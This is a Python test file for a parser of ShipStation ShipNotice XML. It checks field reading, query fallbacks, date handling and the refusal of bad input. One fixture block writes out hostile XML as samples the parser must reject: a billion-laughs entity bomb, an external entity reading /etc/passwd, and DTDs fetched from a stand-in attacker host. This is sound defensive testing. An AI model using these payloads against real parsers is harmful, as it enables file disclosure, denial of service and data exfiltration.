"""parse_ship_notice: ShipStation's ShipNotice read safely, with query fallbacks, hostile XML refused."""

from __future__ import annotations

from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st
from inkship.connector.customstore.shipnotify import MAX_NOTICE_BYTES, NoticeItem, parse_ship_notice
from inkship.connector.errors import RequestRejected

# The guide's own sample, with a second line added.
SAMPLE = b"""<?xml version="1.0" encoding="utf-8"?>
<ShipNotice>
  <OrderNumber>ABC123</OrderNumber>
  <OrderID>inksoft:3f6c1a52</OrderID>
  <CustomerCode>customer@mystore.com</CustomerCode>
  <CustomerNotes></CustomerNotes>
  <InternalNotes></InternalNotes>
  <NotesToCustomer>thanks &amp; enjoy</NotesToCustomer>
  <NotifyCustomer>false</NotifyCustomer>
  <LabelCreateDate>12/8/2011 12:56</LabelCreateDate>
  <ShipDate>12/8/2011</ShipDate>
  <Carrier>USPS</Carrier>
  <Service>USPS Priority Mail</Service>
  <TrackingNumber>9400111899223197428490</TrackingNumber>
  <ShippingCost>4.95</ShippingCost>
  <Recipient><Name>The Customer</Name><Country>US</Country></Recipient>
  <Items>
    <Item><SKU>FD88821</SKU><Name>My Product Name</Name><Quantity>2</Quantity>
          <LineItemID>25590</LineItemID></Item>
    <Item><SKU>FD88822</SKU><Name>Other</Name><Quantity>1</Quantity><LineItemID>25591</LineItemID></Item>
    <Item><SKU>FD88821</SKU><Name>My Product Name</Name><Quantity>3</Quantity>
          <LineItemID>25590</LineItemID></Item>
  </Items>
</ShipNotice>"""

QUERY = {"action": "shipnotify", "order_number": "ABC123", "carrier": "USPS", "service": "",
         "tracking_number": "9400111899223197428490"}


def test_reads_every_field_of_the_sample():
    notice = parse_ship_notice(SAMPLE, QUERY)
    assert notice.order_id == "inksoft:3f6c1a52"
    assert notice.order_number == "ABC123"
    assert (notice.carrier, notice.service) == ("USPS", "USPS Priority Mail")
    assert notice.tracking_number == "9400111899223197428490"
    assert notice.ship_date == date(2011, 12, 8)
    assert notice.notify_customer is False
    assert notice.items == (NoticeItem("25590", 2, "FD88821", "My Product Name"),
                            NoticeItem("25591", 1, "FD88822", "Other"),
                            NoticeItem("25590", 3, "FD88821", "My Product Name"))
    assert notice.from_query_only is False


def test_quantities_of_a_line_listed_twice_add_up():
    assert parse_ship_notice(SAMPLE, QUERY).shipped_quantities() == {"25590": 5, "25591": 1}


def test_empty_body_falls_back_to_the_query_and_covers_the_whole_order():
    notice = parse_ship_notice(b"  \r\n", QUERY)
    assert notice.from_query_only is True
    assert notice.items is None and notice.shipped_quantities() is None
    assert (notice.order_id, notice.order_number) == ("", "ABC123")
    assert (notice.carrier, notice.service, notice.tracking_number) == ("USPS", "", QUERY["tracking_number"])


def test_an_empty_items_element_is_a_notice_of_no_unit_not_of_the_whole_order():
    # A spare package of a multi-package label: ShipStation lists the items on it, and there are none.
    body = b"<ShipNotice><OrderID>42</OrderID><TrackingNumber>1Z9</TrackingNumber><Items/></ShipNotice>"
    notice = parse_ship_notice(body, QUERY)
    assert notice.items == () and notice.shipped_quantities() == {}


def test_body_values_win_and_the_query_fills_gaps():
    body = b"<ShipNotice><OrderID>42</OrderID><Carrier>UPS</Carrier></ShipNotice>"
    notice = parse_ship_notice(body, QUERY)
    assert notice.carrier == "UPS"
    assert notice.order_number == "ABC123" and notice.tracking_number == QUERY["tracking_number"]
    assert notice.items is None


def test_namespaced_notice_is_read():
    body = (b'<ShipNotice xmlns="http://example.com/XMLSchema/1.0"><OrderID>7</OrderID>'
            b"<Items><Item><LineItemID>a</LineItemID><Quantity>4</Quantity></Item></Items></ShipNotice>")
    notice = parse_ship_notice(body, {})
    assert notice.order_id == "7" and notice.shipped_quantities() == {"a": 4}


@pytest.mark.parametrize("text, expected", [
    ("12/08/2011", date(2011, 12, 8)), ("2011-12-08", date(2011, 12, 8)),
    ("12/8/11 9:05 PM", date(2011, 12, 8)), ("not a date", None), ("13/45/2011", None),
])
def test_ship_date_is_read_leniently(text, expected):
    body = f"<ShipNotice><OrderID>1</OrderID><ShipDate>{text}</ShipDate></ShipNotice>".encode()
    assert parse_ship_notice(body, {}).ship_date == expected


def test_label_create_date_stands_in_for_a_missing_ship_date():
    body = b"<ShipNotice><OrderID>1</OrderID><LabelCreateDate>03/10/2024 09:30</LabelCreateDate></ShipNotice>"
    assert parse_ship_notice(body, {}).ship_date == date(2024, 3, 10)


def test_notice_naming_no_order_is_refused():
    with pytest.raises(RequestRejected, match="names no order") as caught:
        parse_ship_notice(b"<ShipNotice><Carrier>UPS</Carrier></ShipNotice>", {"carrier": "UPS"})
    assert caught.value.status == 400


@pytest.mark.parametrize("item, message", [
    (b"<Item><Quantity>2</Quantity></Item>", "without LineItemID"),
    (b"<Item><LineItemID>a</LineItemID><Quantity>two</Quantity></Item>", "not a whole number"),
    (b"<Item><LineItemID>a</LineItemID><Quantity>0</Quantity></Item>", "at least 1"),
    (b"<Item><LineItemID>a</LineItemID></Item>", "not a whole number"),
])
def test_bad_items_are_refused_with_a_reason(item, message):
    body = b"<ShipNotice><OrderID>1</OrderID><Items>" + item + b"</Items></ShipNotice>"
    with pytest.raises(RequestRejected, match=message):
        parse_ship_notice(body, {})


def test_other_root_element_is_refused():
    with pytest.raises(RequestRejected, match="expected a ShipNotice"):
        parse_ship_notice(b"<Orders pages='0'/>", QUERY)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<ShipNotice><OrderID>&lol9;</OrderID></ShipNotice>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE ShipNotice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<ShipNotice><OrderID>&xxe;</OrderID></ShipNotice>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE ShipNotice SYSTEM "http://attacker.invalid/evil.dtd">
<ShipNotice><OrderID>1</OrderID></ShipNotice>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE ShipNotice [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]>
<ShipNotice><OrderID>1</OrderID></ShipNotice>"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"])
def test_hostile_xml_is_refused_without_expanding(body):
    with pytest.raises(RequestRejected, match="DTDs and entities are not accepted") as caught:
        parse_ship_notice(body, QUERY)
    assert caught.value.status == 400


def test_oversized_body_is_refused_with_413_before_parsing():
    body = b"<ShipNotice><OrderID>1</OrderID><InternalNotes>" + b"x" * MAX_NOTICE_BYTES + b"</InternalNotes>"
    with pytest.raises(RequestRejected) as caught:
        parse_ship_notice(body, QUERY)
    assert caught.value.status == 413


def test_deep_nesting_within_the_limit_does_not_crash():
    depth = 20000
    body = b"<ShipNotice><OrderID>1</OrderID>" + b"<a>" * depth + b"</a>" * depth + b"</ShipNotice>"
    assert parse_ship_notice(body, {}).order_id == "1"


@pytest.mark.parametrize("body", [b"not xml at all", b"<ShipNotice>", b"\xff\xfe\x00<", b"{\"json\": 1}",
                                  b"<html><body>502 Bad Gateway</body></html>",
                                  b'<?xml version="1.0" encoding="klingon"?><ShipNotice/>'])
def test_garbage_is_refused_as_not_well_formed_or_not_a_notice(body):
    with pytest.raises(RequestRejected) as caught:
        parse_ship_notice(body, QUERY)
    assert caught.value.status == 400


@given(st.binary(max_size=2048), st.dictionaries(st.sampled_from(list(QUERY)), st.text(max_size=20)))
def test_never_crashes_on_arbitrary_bytes(body, query):
    try:
        notice = parse_ship_notice(body, query)
    except RequestRejected as exc:
        assert exc.status in (400, 413)
    else:
        assert notice.order_id or notice.order_number


_xml_text = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="<&\x00"), max_size=30)


@given(st.lists(st.tuples(st.sampled_from(["OrderID", "OrderNumber", "Carrier", "Items", "Item",
                                           "LineItemID", "Quantity", "ShipDate", "NotifyCustomer"]),
                          _xml_text), max_size=12))
def test_never_crashes_on_notice_shaped_documents(parts):
    body = ("<ShipNotice>" + "".join(f"<{tag}>{text}</{tag}>" for tag, text in parts)
            + "</ShipNotice>").encode("utf-8", "surrogatepass")
    try:
        parse_ship_notice(body, {"order_number": "1"})
    except RequestRejected as exc:
        assert exc.status == 400
